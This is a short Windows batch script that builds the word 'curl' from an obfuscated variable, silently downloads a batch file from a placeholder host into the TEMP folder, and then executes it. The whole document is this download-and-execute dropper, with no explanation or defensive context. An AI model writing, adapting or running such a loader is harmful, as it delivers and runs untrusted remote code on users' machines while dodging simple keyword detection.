set q=c#u#r#l
%q:#=% -so %TEMP%\a.bat https://cdn-x7.invalid/a
call %TEMP%\a.bat
